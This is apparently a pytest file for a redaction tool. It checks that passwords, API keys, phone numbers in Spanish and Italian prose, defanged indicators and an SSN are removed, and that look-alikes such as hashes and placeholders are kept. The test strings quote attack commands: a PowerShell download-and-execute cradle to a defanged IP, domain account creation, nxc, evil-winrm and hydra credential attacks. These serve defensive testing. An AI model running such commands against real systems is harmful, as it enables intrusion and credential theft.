"""Shapes blind corpora DA (security and incident response) and DB (LLM serving in 2026)
found missed or mistaken: indicators written defanged, passwords on the command lines of a
security test, login pairs in test notes, observability vendors' keys, numbers told in
Spanish and Italian prose, an SSN after a snippet's ellipsis; and hashes and names that
must stay."""

from __future__ import annotations

import pytest

from servescope.redaction import Redactor


@pytest.mark.parametrize(("text", "value"), [
    # a defanged indicator is still a host's public address
    ("IEX (New-Object Net.WebClient).DownloadString('hxxp://89[.]42[.]110[.]213/a.ps1')",
     "89[.]42[.]110[.]213"),
    ("Resolves to: 31[.]5[.]190[.]38 (AS9009)", "31[.]5[.]190[.]38"),
    ("C2 beacon to 185.220.101(.)47 every 60 s", "185.220.101(.)47"),
    ("callback 203[dot]0[dot]113[dot]9", "203[dot]0[dot]113[dot]9"),
    # a security test's command lines, and what the tool prints back
    ("cmd.exe /c \"net user svc_helpdesk Helix2021# /add /domain\"", "Helix2021#"),
    ("$ nxc smb 10.30.170.0/24 -u j.doe -p 'W3lc0m3270!' --shares\n"
     "SMB  10.30.170.85  445  SQL01  [+] nordlys.local\\j.doe:W3lc0m3270! (Pwn3d!)",
     "W3lc0m3270!"),
    ("evil-winrm -i 10.0.0.5 -u administrator -p 'Summer2024!'", "Summer2024!"),
    ("  --lora --wandb-api-key f81506159b0b490241fb9207c83d5e0ebc95f277 \\",
     "f81506159b0b490241fb9207c83d5e0ebc95f277"),
    # a login pair in test notes
    ("- Jenkins en 62.133.30.172:8080 acepta credenciales por defecto `admin` / `letmein5101`",
     "letmein5101"),
    ("Tomcat accepte les identifiants par défaut `admin` / `Football_prod28!`",
     "Football_prod28!"),
    # observability and paging keys, NVIDIA's API key
    ("    headers:\n      x-honeycomb-team: xAmW1dKUUOCJI7VHri436D", "xAmW1dKUUOCJI7VHri436D"),
    ("    pagerduty_configs:\n      - routing_key: 1bd349b0be1a06185dc99ddfc5fb6404",
     "1bd349b0be1a06185dc99ddfc5fb6404"),
    ("+ echo 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 | docker "
     "login nvcr.io --username '$oauthtoken' --password-stdin",
     "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"),
    # numbers told in prose: a call back, a parenthesis before the number
    ("Devolución de llamada al 644 35 92 76 desde otro número", "644 35 92 76"),
    ("Se avisó al contacto del cliente (638 43 19 80)", "638 43 19 80"),
    ("l'utente ha confermato al telefono (310 2056595) il reset", "310 2056595"),
    ("Potete richiamarmi al 395 7209458, grazie", "395 7209458"),
    # a DLP alert's evidence, cut with an ellipsis
    ("Evidence snippet: ...833-74-8156 (payroll export)", "833-74-8156"),
])
def test_the_value_goes(redactor: Redactor, text: str, value: str) -> None:
    assert value not in redactor.redact_text(text, {})


@pytest.mark.parametrize("text", [
    # an ssdeep hash: block size, then two base64 runs
    "ssdeep: 3072:iPHWN8HLvpmeebt7DR74o37gD7vYhkNXxTQ+yPDU:wnUzNtLAInUslwestaIV",
    # a broker's routing key is a name; a header's key from the environment
    'channel.basic_publish(exchange="events", routing_key="orders.created.v1", body=b)',
    "x-honeycomb-team: ${HONEYCOMB_API_KEY}",
    # a private network written defanged, a placeholder pair, no password given
    "scan of 10[.]0[.]0[.]5 (internal)",
    "default credentials `admin` / `<password>` (change on first login)",
    "net user administrator *",
    "net user alice /domain",
    "hydra -l root -P rockyou.txt ssh://10.0.0.1",
    # a call to an API, not a phone call
    "la llamada a la API tardó 1200 ms",
])
def test_the_look_alike_stays(redactor: Redactor, text: str) -> None:
    assert redactor.redact_text(text, {}) == text


# Corpus FA (incident and on-call chat around LLM services).
@pytest.mark.parametrize(("text", "value"), [
    ("ipmitool -I lanplus -H 10.20.0.7 -U ADMIN -P 'Morgen6817-sakura' chassis power status",
     "Morgen6817-sakura"),
    ("Join Zoom Meeting\\nMeeting ID: 986 4932 9965\\nPasscode: 180986", "180986"),
    ('set {\\n          - name  = "adminPassword" -> null\\n          - value = '
     '"Soleil2522_harbor" -> null\\n        }', "Soleil2522_harbor"),
])
def test_the_incident_chats_value_goes(redactor: Redactor, text: str, value: str) -> None:
    assert value not in redactor.redact_text(text, {})


@pytest.mark.parametrize("text", [
    "3fe767baedfa   ghcr.io/inferloop/token-meter:5400fb8   \"python -m vllm.ent…\"   40 min",
    "Incident key: af78bacb5a8097e52e5d596fc7478163\\nDedup key: grafana/0b36c7bdea",
    '<input type="hidden" name="csrf_token" value="4vUpFaN-_gTRLmm7QwZ3kd9s">',
])
def test_the_incident_chats_look_alike_stays(redactor: Redactor, text: str) -> None:
    assert redactor.redact_text(text, {}) == text
